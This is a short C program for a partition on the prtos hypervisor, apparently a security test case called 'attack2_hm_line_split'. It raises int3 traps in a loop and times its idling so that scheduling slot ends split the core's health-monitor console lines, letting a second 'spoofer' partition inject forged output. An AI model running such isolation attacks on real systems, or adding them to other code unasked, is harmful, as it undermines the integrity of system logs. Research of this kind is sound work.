/*
 * attack2_hm_line_split, P0 (normal): int3 in a loop. Each one is an HM event
 * (action IGNORE) whose line the core prints with interrupts on. When an int3
 * took longer than a slot gap (its line was cut by the slot end and finished in
 * this slot), it stays quiet until its next slot, so that nothing of the core's
 * comes between the spoofer's two writes. Virtual time is deterministic, so
 * it starts each slot a little later than the last (about 1 us more per
 * frame, modulo 100 us): the slot end sweeps every instruction of the HM line.
 */
#include <prtos.h>
#include <stdio.h>

void partition_main(void)
{
	prtos_time_t a, b;
	volatile int spin;
	int cut = 0, k = 0;

	printf("[Breaker] int3 in a loop\n");
	for (;;) {
		prtos_get_time(PRTOS_HW_CLOCK, &a);
		__asm__ volatile("int3");
		prtos_get_time(PRTOS_HW_CLOCK, &b);
		if (b - a > 150) {
			cut++;
			prtos_idle_self();
			k = (k + 1) % 100;
			for (spin = 0; spin < k * 20; spin++)
				;
		}
	}
}
